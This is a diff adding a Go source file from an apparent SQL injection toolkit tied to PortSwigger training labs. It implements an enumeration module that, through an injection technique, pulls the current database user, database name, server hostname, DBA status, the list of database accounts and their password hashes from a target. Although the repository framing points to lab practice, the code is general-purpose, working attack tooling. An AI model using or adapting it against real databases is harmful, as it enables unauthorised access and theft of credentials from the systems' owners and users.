@@ -0,0 +1,165 @@
+package sqli
+
+import (
+	"fmt"
+	"strings"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/payload"
+)
+
+// Environment is what the target reveals about its database server and accounts.
+// Facts the dialect cannot reveal, or that could not be retrieved, are left empty.
+type Environment struct {
+	CurrentUser     string         `json:"current_user,omitempty"`
+	CurrentDatabase string         `json:"current_database,omitempty"`
+	Hostname        string         `json:"hostname,omitempty"`
+	IsDBA           *bool          `json:"is_dba,omitempty"`
+	Users           []string       `json:"users,omitempty"`
+	PasswordHashes  []PasswordHash `json:"password_hashes,omitempty"`
+}
+
+type PasswordHash struct {
+	User string `json:"user"`
+	Hash string `json:"hash"`
+}
+
+// Enumerate retrieves every fact of the environment the dialect can reveal. Facts that
+// fail, e.g. password hashes without administrator privileges, are logged and skipped.
+func (d *Dumper) Enumerate() Environment {
+	environment := Environment{}
+	queries := d.db.Environment
+
+	scalars := []struct {
+		name  string
+		query string
+		value *string
+		get   func() (string, error)
+	}{
+		{"Current user", queries.CurrentUser, &environment.CurrentUser, d.CurrentUser},
+		{"Current database", queries.CurrentDatabase, &environment.CurrentDatabase, d.CurrentDatabase},
+		{"Hostname", queries.Hostname, &environment.Hostname, d.Hostname},
+	}
+	for _, scalar := range scalars {
+		if scalar.query == "" {
+			continue
+		}
+		value, err := scalar.get()
+		if err != nil {
+			logger.Warningf("Failed to retrieve the %s: %s", strings.ToLower(scalar.name), err.Error())
+			continue
+		}
+		if value == constant.NULL_VALUE {
+			logger.Infof("%s: NULL", scalar.name)
+			continue
+		}
+		*scalar.value = value
+		logger.Successf("%s: %s", scalar.name, value)
+	}
+
+	if queries.DBACondition != "" {
+		isDBA, err := d.IsDBA()
+		if err != nil {
+			logger.Warningf("Failed to check for DBA privileges: %s", err.Error())
+		} else {
+			environment.IsDBA = &isDBA
+			logger.Successf("DBA privileges: %t", isDBA)
+		}
+	}
+
+	if queries.UsersView != "" {
+		users, err := d.ListUsers()
+		if err != nil {
+			logger.Warningf("Failed to list database users: %s", err.Error())
+		} else {
+			environment.Users = users
+			logger.Successf("Database users: %s", strings.Join(users, ", "))
+		}
+	}
+
+	if queries.PasswordsView != "" {
+		hashes, err := d.ListPasswordHashes()
+		if err != nil {
+			logger.Warningf("Failed to retrieve password hashes, they usually need DBA privileges: %s", err.Error())
+		} else {
+			environment.PasswordHashes = hashes
+			logger.Successf("Retrieved %d password hashes", len(hashes))
+		}
+	}
+	return environment
+}
+
+// CurrentUser returns the account the application connects to the database with.
+func (d *Dumper) CurrentUser() (string, error) {
+	return d.selectValue("current user", d.db.Environment.CurrentUser)
+}
+
+// CurrentDatabase returns the database the vulnerable query runs in.
+func (d *Dumper) CurrentDatabase() (string, error) {
+	return d.selectValue("current database", d.db.Environment.CurrentDatabase)
+}
+
+// Hostname returns the name or address of the database server.
+func (d *Dumper) Hostname() (string, error) {
+	return d.selectValue("hostname", d.db.Environment.Hostname)
+}
+
+// IsDBA reports whether the current user is a superuser or has the DBA role.
+func (d *Dumper) IsDBA() (bool, error) {
+	condition := d.db.Environment.DBACondition
+	if condition == "" {
+		return false, d.unsupported("DBA status")
+	}
+	value, err := d.technique.ExtractString(payload.NewSelect(d.db, fmt.Sprintf("CASE WHEN (%s) THEN '1' ELSE '0' END", condition)).Subquery())
+	if err != nil {
+		return false, err
+	}
+	return strings.TrimSpace(value) == "1", nil
+}
+
+// ListUsers returns the database accounts, from the fallback view when the main one
+// cannot be read or lists none.
+func (d *Dumper) ListUsers() ([]string, error) {
+	queries := d.db.Environment
+	if queries.UsersView == "" {
+		return nil, d.unsupported("database users")
+	}
+	users, err := d.fetchList("DISTINCT "+queries.UserColumn, queries.UsersView, "", d.options.RowLimit)
+	if queries.UsersFallbackView == "" || (err == nil && len(users) > 0) {
+		return users, err
+	}
+	if err != nil {
+		logger.Debugf("Failed to list users from %s, trying %s: %s", queries.UsersView, queries.UsersFallbackView, err.Error())
+	}
+	return d.fetchList("DISTINCT "+queries.UsersFallbackColumn, queries.UsersFallbackView, "", d.options.RowLimit)
+}
+
+// ListPasswordHashes returns the password hash of every account that has one.
+func (d *Dumper) ListPasswordHashes() ([]PasswordHash, error) {
+	queries := d.db.Environment
+	if queries.PasswordsView == "" {
+		return nil, d.unsupported("password hashes")
+	}
+	rows, err := d.SelectRows([]string{queries.PasswordUserColumn, queries.PasswordHashColumn}, queries.PasswordsView, "", d.options.RowLimit)
+	hashes := make([]PasswordHash, 0, len(rows))
+	for _, row := range rows {
+		if len(row) == 2 && row[1] != constant.NULL_VALUE && row[1] != "" {
+			hashes = append(hashes, PasswordHash{User: row[0], Hash: row[1]})
+		}
+	}
+	return hashes, err
+}
+
+// selectValue retrieves an expression that needs no table, NULL coming back as NULL_VALUE.
+func (d *Dumper) selectValue(fact string, expression string) (string, error) {
+	if expression == "" {
+		return "", d.unsupported(fact)
+	}
+	value := fmt.Sprintf("COALESCE(%s,%s)", d.db.CastToString(expression), d.db.Quote(constant.NULL_VALUE))
+	return d.technique.ExtractString(payload.NewSelect(d.db, value).Subquery())
+}
+
+func (d *Dumper) unsupported(fact string) error {
+	return fmt.Errorf("the database %s does not reveal the %s", d.db.Name, fact)
+}